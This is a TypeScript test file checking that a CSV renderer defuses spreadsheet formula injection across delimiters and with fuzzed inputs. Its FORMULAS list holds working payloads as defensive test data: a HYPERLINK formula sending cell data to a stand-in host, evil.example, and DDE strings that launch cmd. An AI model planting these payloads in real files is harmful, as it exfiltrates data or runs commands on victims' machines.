import { parse } from 'csv-parse/sync';
import fc from 'fast-check';
import { beforeAll, describe, expect, it } from 'vitest';
import { analysisDocument } from '../../src/render/analysis/document.js';
import { renderCsv } from '../../src/render/document/csv.js';
import type { Cell, Table } from '../../src/render/document/document.js';
import { tablesOf } from '../../src/render/document/tables.js';
import type { Report } from '../../src/report/types.js';
import { reportOf } from '../support/analyze.js';
import { ACTIVE, HOSTILE, poisoned } from '../support/hostile.js';
import { siteLog } from '../support/site.js';

const FORMULAS = [
  '=HYPERLINK("http://evil.example/?"&A1,"x")',
  "+1+cmd|' /C calc'!A0",
  "-2+3+cmd|' /C calc'!A0",
  "@SUM(1+1)*cmd|' /C calc'!A0",
  '\t=1+1',
  '\r=1+1',
  ' =1+1',
  '"=1+1',
  "'=1+1",
  '＝1+1',
  '|calc',
  'DDE;=cmd()',
  'a;\t@SUM(1)',
];

function tableOf(cells: readonly Cell[]): Table {
  const columns = cells.map((_, i) => ({ key: `c${i}`, title: '', kind: 'text' as const }));
  return { block: 'table', name: 't', caption: '', columns, rows: [cells] };
}

/** The cells as a program reads them that splits at `delimiter`. */
function read(csv: string, delimiter = ','): string[][] {
  return parse(csv, { delimiter, relax_quotes: true, relax_column_count: true });
}

let site: Report;
beforeAll(async () => {
  site = await reportOf(siteLog());
});

describe('a table as CSV', () => {
  it.each(FORMULAS)('has no formula in %j, whatever separates cells for the reader', (formula) => {
    for (const delimiter of [',', ';', '\t', '|']) {
      const cells = read(renderCsv(tableOf(['a', formula, 'b'])), delimiter)
        .flat()
        .filter((cell) => /^[\s"]*[=+\-@＝]/.test(cell));
      expect(cells).toEqual([]);
    }
  });

  it('leaves negative numbers, and texts that are no formula, as they are', () => {
    const cells = [-1.5, 1e21, 0.1 + 0.2, null, 'a "b", c', 'GET /a?b=c', 'x'];
    expect(read(renderCsv(tableOf(cells)))[1]).toEqual(['-1.5', '1e+21', '0.3', '', 'a "b", c', 'GET /a?b=c', 'x']);
  });

  it('has as many cells in each line as columns, whatever texts hold', () => {
    const cell = fc.oneof(fc.string({ unit: 'binary' }), fc.double(), fc.constant(null));
    fc.assert(
      fc.property(fc.array(cell, { minLength: 1, maxLength: 5 }), (cells) => {
        const csv = renderCsv(tableOf(cells));
        expect(csv.split('\r\n')).toHaveLength(3);
        expect(csv.replaceAll('\r\n', '')).not.toMatch(ACTIVE);
        expect(parse(csv, { record_delimiter: '\r\n' }).map((row) => row.length)).toEqual([cells.length, cells.length]);
      }),
    );
  });

  it.each(['=1+1', HOSTILE])('is safe for every text of a report: %j', (poison) => {
    for (const table of tablesOf(analysisDocument(poisoned(site, poison, 'ahead')))) {
      const csv = renderCsv(table);
      const rows = read(csv);
      expect(rows.map((row) => row.length)).toEqual([table, ...table.rows].map(() => table.columns.length));
      expect(rows.flat().filter((text) => /^[\s'"]*[=+@]/.test(text) && !text.startsWith("'"))).toEqual([]);
      expect(csv.replaceAll('\r\n', '')).not.toMatch(ACTIVE);
    }
  });
});
